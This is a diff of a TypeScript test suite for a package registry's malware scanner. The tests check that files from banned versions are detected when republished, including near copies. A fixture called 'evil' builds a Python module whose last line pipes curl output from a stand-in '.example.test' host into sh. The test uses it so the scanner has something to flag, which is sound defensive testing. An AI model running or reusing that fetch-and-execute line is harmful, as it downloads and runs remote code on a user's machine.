@@ -1,5 +1,5 @@
 import assert from 'node:assert/strict'
-import { test } from 'node:test'
+import { describe, it } from 'node:test'
 import type { Finding } from '@nodeyard/analysis/scan/finding'
 import { moderateVersion } from '@nodeyard/contract/admin'
 import { asAdmin } from '../../../../test/admin.ts'
@@ -11,7 +11,7 @@ import { noteBans } from './note-bans.ts'
 
 const holder = useWorld()
 
-/** A module of its own: no other name makes one with anything in common. */
+/** A module that shares no text with the module of another name. */
 const moduleOf = (name: string, extra = '') =>
   `import math\n${extra}\n${Array.from(
     { length: 12 },
@@ -19,7 +19,7 @@ const moduleOf = (name: string, extra = '') =>
       `def ${name}_${i}(${name}_x, ${name}_y):\n    return math.sqrt(${name}_x * ${i}) + ${name}_y ** ${i + 2}\n`,
   ).join('\n')}`
 
-/** In itself it is `high`: a hidden call of a program. */
+/** A hidden subprocess call, which is a `high` finding on its own. */
 const evil = (name: string) =>
   `${moduleOf(name)}\nimport os\nos.system("curl https://${name}.example.test/x | sh")\n`
 
@@ -46,115 +46,120 @@ async function outcome({ id }: { id: string }) {
 
 const clean = { status: 'active', known: [] }
 
-test('a file of a banned version is found again under any name, and harmless files are not', async () => {
-  const { world } = holder
-  const attacker = await testPublisher(world)
-  const files = { 'core.py': moduleOf('sneaky'), LICENSE: 'MIT '.repeat(500), 'sub/__init__.py': '' }
-  await attacker.publish({ id: 'dusky-tools', files })
-  await setStatus('dusky-tools', '1.0.0', 'Banned')
-  const other = await testPublisher(world)
-  const again = await other.publish({
-    id: 'sunny-tools',
-    files: { LICENSE: files.LICENSE, 'sub/__init__.py': '', 'a/b.py': files['core.py'] },
+describe('known bad files', () => {
+  it('recognizes a file of a banned version under any name, and no harmless files', async () => {
+    const { world } = holder
+    const attacker = await testPublisher(world)
+    const files = { 'core.py': moduleOf('sneaky'), LICENSE: 'MIT '.repeat(500), 'sub/__init__.py': '' }
+    await attacker.publish({ id: 'dusky-tools', files })
+    await setStatus('dusky-tools', '1.0.0', 'Banned')
+    const other = await testPublisher(world)
+    const again = await other.publish({
+      id: 'sunny-tools',
+      files: { LICENSE: files.LICENSE, 'sub/__init__.py': '', 'a/b.py': files['core.py'] },
+    })
+    assert.deepEqual(await outcome(again), {
+      status: 'flagged',
+      known: ['high a/b.py: The file is the same as `core.py` of dusky-tools 1.0.0, which was banned.'],
+    })
+    const harmless = await other.publish({
+      id: 'rainy-tools',
+      files: { LICENSE: files.LICENSE, 'sub/__init__.py': '' },
+    })
+    assert.deepEqual(await outcome(harmless), clean)
   })
-  assert.deepEqual(await outcome(again), {
-    status: 'flagged',
-    known: ['high a/b.py: The file is the same as `core.py` of dusky-tools 1.0.0, which was banned.'],
-  })
-  const harmless = await other.publish({
-    id: 'rainy-tools',
-    files: { LICENSE: files.LICENSE, 'sub/__init__.py': '' },
-  })
-  assert.deepEqual(await outcome(harmless), clean)
-})
 
-test('a copy with other comments and a few other lines is a near copy', async () => {
-  const { world } = holder
-  const attacker = await testPublisher(world)
-  await attacker.publish({ id: 'marble-tools', files: { 'core.py': moduleOf('marble') } })
-  await setStatus('marble-tools', '1.0.0', 'Banned')
-  const changed = `# by me\n${moduleOf('marble', 'LIMIT = 3')}`.replaceAll('\n    ', '\n        ')
-  const again = await (await testPublisher(world)).publish({
-    id: 'granite-tools',
-    files: { 'other.py': changed },
+  it('recognizes a copy with other comments and a few changed lines', async () => {
+    const { world } = holder
+    const attacker = await testPublisher(world)
+    await attacker.publish({ id: 'marble-tools', files: { 'core.py': moduleOf('marble') } })
+    await setStatus('marble-tools', '1.0.0', 'Banned')
+    const changed = `# by me\n${moduleOf('marble', 'LIMIT = 3')}`.replaceAll('\n    ', '\n        ')
+    const again = await (await testPublisher(world)).publish({
+      id: 'granite-tools',
+      files: { 'other.py': changed },
+    })
+    const { status, known } = await outcome(again)
+    assert.equal(status, 'flagged')
+    assert.match(
+      known[0] ?? '',
+      /^high other\.py: The file has about \d+ percent of its code in common with `core\.py` of marble-tools 1\.0\.0/,
+    )
   })
-  const { status, known } = await outcome(again)
-  assert.equal(status, 'flagged')
-  assert.match(
-    known[0] ?? '',
-    /^high other\.py: The file has about \d+ percent of its code in common with `core\.py` of marble-tools 1\.0\.0/,
-  )
-})
 
-test('what active versions contain too is everybody’s, unless something was found in the file itself', async () => {
-  const { world } = holder
-  const library = moduleOf('library')
-  const honest = await testPublisher(world)
-  await honest.publish({ id: 'brook-tools', files: { 'vendor/lib.py': library } })
-  const careless = await testPublisher(world)
-  await careless.publish({ id: 'river-tools', files: { 'vendor/lib.py': library } })
-  await setStatus('river-tools', '1.0.0', 'Banned')
-  const next = await (await testPublisher(world)).publish({ id: 'creek-tools', files: { 'lib.py': library } })
-  assert.deepEqual(await outcome(next), clean)
+  it('ignores files that active versions also contain, unless the file itself has findings', async () => {
+    const { world } = holder
+    const library = moduleOf('library')
+    const honest = await testPublisher(world)
+    await honest.publish({ id: 'brook-tools', files: { 'vendor/lib.py': library } })
+    const careless = await testPublisher(world)
+    await careless.publish({ id: 'river-tools', files: { 'vendor/lib.py': library } })
+    await setStatus('river-tools', '1.0.0', 'Banned')
+    const next = await (await testPublisher(world)).publish({
+      id: 'creek-tools',
+      files: { 'lib.py': library },
+    })
+    assert.deepEqual(await outcome(next), clean)
 
-  const attacker = await testPublisher(world)
-  const first = await attacker.publish({ id: 'swamp-tools', files: { 'evil.py': evil('swamp') } })
-  assert.equal((await outcome(first)).status, 'flagged')
-  await setStatus('swamp-tools', '1.0.0', 'Active')
-  await attacker.publish({ id: 'swamp-tools', version: '1.0.1', files: { 'evil.py': evil('swamp') } })
-  await setStatus('swamp-tools', '1.0.1', 'Banned')
-  const third = await attacker.publish({
-    id: 'swamp-tools',
-    version: '1.0.2',
-    files: { 'evil.py': evil('swamp') },
+    const attacker = await testPublisher(world)
+    const first = await attacker.publish({ id: 'swamp-tools', files: { 'evil.py': evil('swamp') } })
+    assert.equal((await outcome(first)).status, 'flagged')
+    await setStatus('swamp-tools', '1.0.0', 'Active')
+    await attacker.publish({ id: 'swamp-tools', version: '1.0.1', files: { 'evil.py': evil('swamp') } })
+    await setStatus('swamp-tools', '1.0.1', 'Banned')
+    const third = await attacker.publish({
+      id: 'swamp-tools',
+      version: '1.0.2',
+      files: { 'evil.py': evil('swamp') },
+    })
+    assert.deepEqual((await outcome(third)).known, [
+      'critical evil.py: The file is the same as `evil.py` of swamp-tools 1.0.1, which was banned.',
+    ])
   })
-  assert.deepEqual((await outcome(third)).known, [
-    'critical evil.py: The file is the same as `evil.py` of swamp-tools 1.0.1, which was banned.',
-  ])
-})
 
-test('the release that mends a banned one keeps the files it always had', async () => {
-  const { world } = holder
-  const publisher = await testPublisher(world)
-  const own = { 'own.py': moduleOf('steady') }
-  await publisher.publish({ id: 'steady-tools', files: own })
-  await publisher.publish({
-    id: 'steady-tools',
-    version: '1.0.1',
-    files: { ...own, 'oops.py': evil('steady') },
+  it('accepts the fixed release of a banned version with its old files', async () => {
+    const { world } = holder
+    const publisher = await testPublisher(world)
+    const own = { 'own.py': moduleOf('steady') }
+    await publisher.publish({ id: 'steady-tools', files: own })
+    await publisher.publish({
+      id: 'steady-tools',
+      version: '1.0.1',
+      files: { ...own, 'oops.py': evil('steady') },
+    })
+    await setStatus('steady-tools', '1.0.1', 'Banned')
+    const fixed = await publisher.publish({ id: 'steady-tools', version: '1.0.2', files: own })
+    assert.deepEqual(await outcome(fixed), clean)
   })
-  await setStatus('steady-tools', '1.0.1', 'Banned')
-  const mended = await publisher.publish({ id: 'steady-tools', version: '1.0.2', files: own })
-  assert.deepEqual(await outcome(mended), clean)
-})
 
-test('a ban that is lifted is forgotten, and one whose version is deleted afterwards is not', async () => {
-  const { world } = holder
-  const publisher = await testPublisher(world)
-  await publisher.publish({ id: 'lantern-tools', files: { 'core.py': moduleOf('lantern') } })
-  await setStatus('lantern-tools', '1.0.0', 'Banned')
-  await setStatus('lantern-tools', '1.0.0', 'Active')
-  const { deps } = world
-  assert.deepEqual(
-    await outcome(
-      await (await testPublisher(world)).publish({
-        id: 'candle-tools',
-        files: { 'core.py': moduleOf('lantern') },
-      }),
-    ),
-    clean,
-  )
+  it('forgets a lifted ban, but not one whose version is deleted later', async () => {
+    const { world } = holder
+    const publisher = await testPublisher(world)
+    await publisher.publish({ id: 'lantern-tools', files: { 'core.py': moduleOf('lantern') } })
+    await setStatus('lantern-tools', '1.0.0', 'Banned')
+    await setStatus('lantern-tools', '1.0.0', 'Active')
+    const { deps } = world
+    assert.deepEqual(
+      await outcome(
+        await (await testPublisher(world)).publish({
+          id: 'candle-tools',
+          files: { 'core.py': moduleOf('lantern') },
+        }),
+      ),
+      clean,
+    )
 
-  await publisher.publish({ id: 'ember-tools', files: { 'core.py': moduleOf('ember') } })
-  await setStatus('ember-tools', '1.0.0', 'Banned')
-  await deps.db
-    .updateTable('node_versions')
-    .set({ status: 'deleted' })
-    .where('node_id', '=', 'ember-tools')
-    .execute()
-  const again = await (await testPublisher(world)).publish({
-    id: 'cinder-tools',
-    files: { 'core.py': moduleOf('ember') },
+    await publisher.publish({ id: 'ember-tools', files: { 'core.py': moduleOf('ember') } })
+    await setStatus('ember-tools', '1.0.0', 'Banned')
+    await deps.db
+      .updateTable('node_versions')
+      .set({ status: 'deleted' })
+      .where('node_id', '=', 'ember-tools')
+      .execute()
+    const again = await (await testPublisher(world)).publish({
+      id: 'cinder-tools',
+      files: { 'core.py': moduleOf('ember') },
+    })
+    assert.equal((await outcome(again)).status, 'flagged')
   })
-  assert.equal((await outcome(again)).status, 'flagged')
 })
